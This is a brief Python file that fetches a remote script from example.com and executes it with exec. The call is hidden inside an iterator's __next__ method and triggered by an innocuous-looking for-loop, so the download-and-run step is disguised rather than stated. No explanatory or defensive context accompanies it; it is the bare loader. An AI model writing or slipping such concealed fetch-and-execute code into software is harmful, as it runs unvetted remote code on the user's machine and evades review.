import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __iter__(self):
        return self

    def __next__(self):
        _go()
        raise StopIteration


for _ in A():
    pass
